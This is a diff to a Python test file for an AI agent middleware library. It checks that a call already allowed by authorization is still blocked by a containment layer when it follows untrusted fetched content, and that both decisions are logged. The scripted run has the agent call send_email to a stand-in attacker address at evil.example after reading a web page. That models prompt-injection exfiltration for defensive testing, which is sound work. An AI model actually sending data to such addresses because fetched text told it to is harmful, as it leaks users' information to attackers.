@@ -661,3 +661,26 @@ async def test_an_address_made_up_from_words_of_untrusted_text_is_carried_by_its
     )
     result = await Agent(model, tools=[page, send_email]).use(contain()).run("When does https://shop.example open?")
     assert [p.name for p in result.pending] == ["send_email"] and "carries 'evil.example'" in result.pending[0].reason
+
+
+async def test_authorize_decides_who_and_contain_decides_trust_both_on_the_log_record_and_in_the_trace() -> None:
+    """`log, authorize(...), contain(...)`: the allowed-then-contained call's record names both decisions."""
+    import logging
+
+    from middleware import Allow, authorize, log
+
+    records: list[logging.LogRecord] = []
+    handler = logging.Handler()
+    handler.emit = records.append  # type: ignore[method-assign]
+    logger = logging.getLogger("test.contain")
+    logger.addHandler(handler)
+    logger.setLevel(logging.INFO)
+    logger.propagate = False
+    script = [[call("fetch", url="https://shop.example")], [call("send_email", to="eve@evil.example")], "done"]
+    agent = agent_with(script, log(logger), authorize(Allow(None)), contain(action="block"))
+    with tracing.capture() as trace:
+        await agent.run("When does https://shop.example open?")
+    (sent,) = [r for r in records if getattr(r, "what", "") == "send_email" and r.kind == "tool"]  # type: ignore[attr-defined]
+    decision = sent.decision  # type: ignore[attr-defined]
+    assert decision.startswith("allowed by rule 1: Allow(None); contained (blocked): send_email follows untrusted")
+    assert "allowed by rule 1" in str(trace) and "contained (blocked): send_email" in str(trace)
